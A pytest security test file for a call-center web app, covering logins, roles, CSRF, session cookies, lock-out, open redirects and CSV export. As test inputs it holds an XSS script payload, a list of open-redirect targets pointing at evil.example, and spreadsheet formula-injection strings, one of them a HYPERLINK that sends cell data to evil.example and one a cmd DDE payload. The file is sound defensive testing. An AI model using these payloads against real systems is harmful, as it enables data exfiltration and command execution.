"""Security of the web side on the whole app: anonymous users, roles, CSRF, lock-out, sessions, escaping."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import statistics
import time

from aiohttp import web

from callcenter.accounts.passwords import verify_password
from callcenter.web import keys as web_keys
from callcenter.web.security import COOKIE_NAME
from webtools import PASSWORD, csrf_of, login

PUBLIC = {"/login", "/health", "/metrics"}  # /metrics: loopback needs no login (tests/web/test_metrics.py)


def every_route(app: web.Application) -> list[tuple[str, str]]:
    """(method, path) of every registered route, placeholders filled with a plausible value."""
    out = []
    for route in app.router.routes():
        info = route.resource.get_info() if route.resource else {}
        path = info.get("path") or info.get("formatter") or info.get("prefix")
        if route.method == "HEAD" or path is None or path.startswith("/static"):
            continue
        out.append((route.method, re.sub(r"\{[^}]+\}", "1", path)))
    return out


async def test_every_page_and_api_refuses_anonymous_users(app_client):
    routes = every_route(app_client.server.app)
    assert len(routes) > 15  # the test sees the whole app, other areas' routes included
    checked = 0
    for method, path in routes:
        if path in PUBLIC:
            continue
        response = await app_client.request(method, path, allow_redirects=False)
        if method == "GET" and not path.startswith(("/api/", "/ws")):
            assert response.status == 302, (method, path, response.status)
            assert response.headers["Location"].startswith("/login?next=")
        else:
            assert response.status == 401, (method, path, response.status)
            assert (await response.json())["error"] == "web.login_required"
        checked += 1
    assert checked > 15


async def test_an_operator_cannot_reach_supervisor_or_admin_actions(app_client):
    csrf = await login(app_client, "op1")
    headers = {"X-CSRF-Token": csrf}
    refused = [
        ("GET", "/wallboard"),
        ("GET", "/reports"),
        ("GET", "/schedule"),
        ("GET", "/admin/users"),
        ("GET", "/api/supervisor/wallboard"),
        ("POST", "/api/supervisor/agents/1002"),
        ("GET", "/api/admin/users"),
        ("POST", "/api/admin/users"),
        ("PUT", "/api/ivr/rules/x"),
    ]
    for method, path in refused:
        response = await app_client.request(method, path, headers=headers, json={"op": "logout"}, allow_redirects=False)
        assert response.status == 403, (method, path, response.status)
        assert (await response.json())["error"] == "web.forbidden"
    # ...while the operator's own desk works
    assert (await app_client.get("/agent")).status == 200
    assert (await app_client.get("/api/agent/state")).status == 200


async def test_a_supervisor_cannot_manage_accounts_but_an_admin_can(app_client):
    csrf = await login(app_client, "boss")
    assert (await app_client.get("/api/supervisor/wallboard")).status == 200
    assert (await app_client.get("/api/admin/users")).status == 403
    await app_client.post("/logout", data={"csrf_token": csrf})
    csrf = await login(app_client, "root")
    listed = await (await app_client.get("/api/admin/users")).json()
    assert {u["username"] for u in listed["users"]} == {"op1", "op2", "boss", "root"}
    assert all("password" not in key for u in listed["users"] for key in u)


async def test_changes_without_the_csrf_token_are_refused(app_client):
    page = await (await app_client.get("/login")).text()
    # the login form itself needs its token
    response = await app_client.post("/login", data={"username": "op1", "password": PASSWORD})
    assert response.status == 403 and (await response.json())["error"] == "web.csrf"
    response = await app_client.post("/login", data={"username": "op1", "password": PASSWORD, "csrf_token": "forged"})
    assert response.status == 403
    csrf = await login(app_client, "op1")
    assert csrf != csrf_of(page)  # a new session (and token) after login: no fixation

    for headers in ({}, {"X-CSRF-Token": "forged"}, {"X-CSRF-Token": ""}):
        response = await app_client.post("/api/agent/state", json={"op": "login"}, headers=headers)
        assert response.status == 403, headers
    response = await app_client.post("/logout", data={})
    assert response.status == 403
    # the right token passes the check (the op itself is refused: no phone registered in this test)
    response = await app_client.post("/api/agent/state", json={"op": "pause", "reason": "break"}, headers={"X-CSRF-Token": csrf})
    assert response.status in (200, 409)
    response = await app_client.post("/logout", data={"csrf_token": csrf}, allow_redirects=False)
    assert response.status == 302
    assert (await app_client.get("/api/me")).status == 401


async def test_requests_from_another_site_are_refused(app_client):
    csrf = await login(app_client, "op1")
    response = await app_client.post(
        "/api/agent/state", json={"op": "login"}, headers={"X-CSRF-Token": csrf, "Origin": "http://evil.example"}
    )
    assert response.status == 403 and (await response.json())["error"] == "web.bad_origin"
    response = await app_client.get("/ws", headers={"Origin": "http://evil.example"})
    assert response.status == 403
    response = await app_client.get("/api/agent/state", headers={"Sec-Fetch-Site": "cross-site"})
    assert response.status == 403


async def test_repeated_failures_lock_the_account_until_an_admin_unlocks_it(app_client):
    for _ in range(5):
        page = await (await app_client.get("/login")).text()
        response = await app_client.post("/login", data={"username": "op2", "password": "wrong password!", "csrf_token": csrf_of(page)})
        assert response.status == 401
    page = await (await app_client.get("/login")).text()
    response = await app_client.post("/login", data={"username": "op2", "password": PASSWORD, "csrf_token": csrf_of(page)})
    assert response.status == 401  # locked: even the right password is refused (answered as a wrong one)
    assert 'data-error="failed"' in await response.text()
    # unknown users answer like wrong passwords (no user enumeration)
    page = await (await app_client.get("/login")).text()
    response = await app_client.post("/login", data={"username": "nobody", "password": "x" * 12, "csrf_token": csrf_of(page)})
    assert response.status == 401 and 'data-error="failed"' in await response.text()

    csrf = await login(app_client, "root")
    users = {u["username"]: u for u in (await (await app_client.get("/api/admin/users")).json())["users"]}
    assert users["op2"]["locked"] is True
    response = await app_client.post(f"/api/admin/users/{users['op2']['id']}/unlock", headers={"X-CSRF-Token": csrf})
    assert response.status == 200
    await app_client.post("/logout", data={"csrf_token": csrf})
    await login(app_client, "op2")


async def test_session_cookie_is_encrypted_http_only_and_strict(app_client):
    page = await (await app_client.get("/login")).text()
    response = await app_client.post(
        "/login", data={"username": "op1", "password": PASSWORD, "csrf_token": csrf_of(page)}, allow_redirects=False
    )
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
    value = cookie.split(";")[0].split("=", 1)[1]
    assert "uid" not in value and "csrf" not in value  # Fernet-encrypted, not readable JSON
    for header in ("Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options"):
        assert header in response.headers


async def test_a_password_change_ends_the_users_sessions(app_client):
    await login(app_client, "op1")
    assert (await app_client.get("/api/me")).status == 200
    accounts = app_client.server.app[web_keys.ACCOUNTS]
    user = await accounts.by_name("op1")
    await accounts.set_password(user.id, "another good password")
    assert (await app_client.get("/api/me")).status == 401


async def test_passwords_are_stored_as_argon2id_hashes(app_client):
    user = await app_client.server.app[web_keys.ACCOUNTS].by_name("op1")
    assert user.password_hash.startswith("$argon2id$") and PASSWORD not in user.password_hash


async def test_what_a_user_typed_is_escaped_in_pages(app_client):
    page = await (await app_client.get("/login")).text()
    evil = '"><script>alert(1)</script>'
    response = await app_client.post("/login", data={"username": evil, "password": "x" * 12, "csrf_token": csrf_of(page)})
    body = await response.text()
    assert "<script>alert(1)" not in body and "&lt;script&gt;" in body
    response = await app_client.get("/login", params={"next": "//evil.example/"})
    assert "evil.example" not in await response.text()  # only local paths are kept as "next"


# -- issue 12, holes 1, 2, 4 and 6 -------------------------------------------------------------------

FOREIGN_NEXTS = [
    "/%09/evil.example", "/\t/evil.example", "/%0D/evil.example", "/\r/evil.example", "/\n/evil.example",
    "/%0A/evil.example", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
    "/%5Cevil.example", "/%2F/evil.example", "https://evil.example/", "http:/evil.example", "javascript:alert(1)",
    " /agent", "/agent/../..//evil.example", "/./agent", "/kb?q=%0D%0ASet-Cookie:x=1", "/kb?q=\\evil",
    "/agent#//evil.example", "/no/such/page", "/api/me", "/logout", "/login", "/ws", "/static/app.css", "",
    "/\x00/evil.example", "/agent\u2028", "/%E3%80%80/evil.example",
]


async def test_next_after_login_is_only_a_page_of_ours(app_client):
    for target in FOREIGN_NEXTS:
        app_client.session.cookie_jar.clear()
        page = await (await app_client.get("/login", params={"next": target})).text()
        assert 'name="next" value=""' in page, target
        response = await app_client.post(
            "/login", data={"username": "op1", "password": PASSWORD, "csrf_token": csrf_of(page), "next": target},
            allow_redirects=False,
        )
        assert response.status == 302, target
        assert response.headers["Location"] == "/agent", (target, response.headers["Location"])  # the role's home
    # a page of ours is kept, with its query; the round trip through the login redirect too
    for target in ("/kb", "/wallboard", "/", "/reports?from=2025-01-01&to=2025-01-31", "/kb?q=%E5%8F%91%E7%83%A7"):
        app_client.session.cookie_jar.clear()
        page = await (await app_client.get("/login", params={"next": target})).text()
        response = await app_client.post(
            "/login", data={"username": "boss", "password": PASSWORD, "csrf_token": csrf_of(page), "next": target},
            allow_redirects=False,
        )
        assert response.headers["Location"] == target
    app_client.session.cookie_jar.clear()
    bounced = await app_client.get("/reports?from=2025-01-01&to=2025-01-31", allow_redirects=False)
    page = await (await app_client.get(bounced.headers["Location"])).text()
    kept = re.search(r'name="next" value="([^"]*)"', page).group(1).replace("&amp;", "&")
    assert kept == "/reports?from=2025-01-01&to=2025-01-31"


def _cookie(client) -> str:
    return next(c.value for c in client.session.cookie_jar if c.key == COOKIE_NAME)


async def _with_cookie(client, cookie: str, path: str):
    client.session.cookie_jar.clear()
    return await client.get(path, headers={"Cookie": f"{COOKIE_NAME}={cookie}"}, allow_redirects=False)


async def test_logout_and_password_change_end_the_session_on_the_server(app_client):
    csrf = await login(app_client, "op1")
    first = _cookie(app_client)
    app_client.session.cookie_jar.clear()
    await login(app_client, "op1")  # the same user in a second browser
    second = _cookie(app_client)
    assert (await _with_cookie(app_client, first, "/api/me")).status == 200
    response = await app_client.post("/logout", data={"csrf_token": csrf}, headers={"Cookie": f"{COOKIE_NAME}={first}"},
                                     allow_redirects=False)
    assert response.status == 302
    # a copy of the logged-out cookie is refused everywhere...
    assert (await _with_cookie(app_client, first, "/api/me")).status == 401
    assert (await _with_cookie(app_client, first, "/api/agent/state")).status == 401
    page = await _with_cookie(app_client, first, "/agent")
    assert page.status == 302 and page.headers["Location"].startswith("/login")
    # ...while the other browser's session goes on, until the password changes
    assert (await _with_cookie(app_client, second, "/api/me")).status == 200
    app_client.session.cookie_jar.clear()
    root_csrf = await login(app_client, "root")
    op1 = await app_client.server.app[web_keys.ACCOUNTS].by_name("op1")
    changed = await app_client.post(f"/api/admin/users/{op1.id}/password", json={"password": "another good password"},
                                    headers={"X-CSRF-Token": root_csrf})
    assert changed.status == 200, await changed.text()
    assert (await _with_cookie(app_client, second, "/api/me")).status == 401
    assert (await _with_cookie(app_client, second, "/agent")).status == 302


async def _attempt(client, username: str, password: str) -> tuple[int, str, float]:
    client.session.cookie_jar.clear()
    page = await (await client.get("/login")).text()
    started = time.perf_counter()
    response = await client.post("/login", data={"username": username, "password": password, "csrf_token": csrf_of(page)})
    took = time.perf_counter() - started
    body = (await response.text()).replace(f'value="{username}"', 'value=""')  # the name typed is shown again
    body = re.sub(r'(name="csrf_token" value=|name="csrf-token" content=)"[^"]*"', r'\1""', body)  # per session
    return response.status, body, took


async def test_locked_and_unknown_accounts_get_the_same_answer(app_client):
    app_client.server.app[web_keys.THROTTLE].limit = 0  # this test makes more attempts than one address may
    for _ in range(5):
        status, _, _ = await _attempt(app_client, "op2", "wrong password!")
        assert status == 401
    answers = {
        "locked, right password": [await _attempt(app_client, "op2", PASSWORD) for _ in range(3)],
        "locked, wrong password": [await _attempt(app_client, "op2", "wrong password!") for _ in range(3)],
        "unknown": [await _attempt(app_client, "nobody", "wrong password!") for _ in range(3)],
        "unknown, similar name": [await _attempt(app_client, "op9", PASSWORD) for _ in range(3)],
    }
    seen = {(status, body) for attempts in answers.values() for status, body, _ in attempts}
    assert len(seen) == 1, {k: [(s, re.findall(r'data-error="[^"]*"', b)) for s, b, _ in v] for k, v in answers.items()}
    assert next(iter(seen))[0] == 401
    # and about as long: every answer costs an argon2 verification, known name or not
    started = time.perf_counter()
    await asyncio.to_thread(verify_password, None, "x" * 12)
    one_hash = time.perf_counter() - started
    medians = {k: statistics.median(t for _, _, t in v) for k, v in answers.items()}
    assert min(medians.values()) > 0.5 * one_hash, (medians, one_hash)
    assert max(medians.values()) < 3 * min(medians.values()), medians


FORMULAS = {
    "question": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "answer": "+1+cmd|' /C calc'!A0",
    "keywords": "-2+3",
    "department": "@SUM(1+1)",
}


async def test_kb_csv_export_neutralises_formulas_and_imports_back(app_client):
    csrf = await login(app_client, "boss")
    headers = {"X-CSRF-Token": csrf}
    created = await app_client.post("/api/kb/entries", json=FORMULAS, headers=headers)
    assert created.status == 201, await created.text()
    entry_id = (await created.json())["id"]
    plain = await app_client.post("/api/kb/entries", json={"question": "'quoted on purpose", "answer": "'=1+1 as text"},
                                  headers=headers)
    plain_id = (await plain.json())["id"]
    exported = await (await app_client.get("/api/kb/export.csv")).read()
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    row = next(r for r in rows if r["id"] == str(entry_id))
    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
    # importing the export changes nothing: the quotes come off again
    imported = await app_client.post("/api/kb/import", data=exported,
                                     headers={**headers, "Content-Type": "text/csv"})
    assert imported.status == 200, await imported.text()
    assert (await imported.json())["updated"] == 0
    entry = await (await app_client.get(f"/api/kb/entries/{entry_id}")).json()
    assert {name: entry[name] for name in FORMULAS} == FORMULAS
    entry = await (await app_client.get(f"/api/kb/entries/{plain_id}")).json()
    assert (entry["question"], entry["answer"]) == ("'quoted on purpose", "'=1+1 as text")
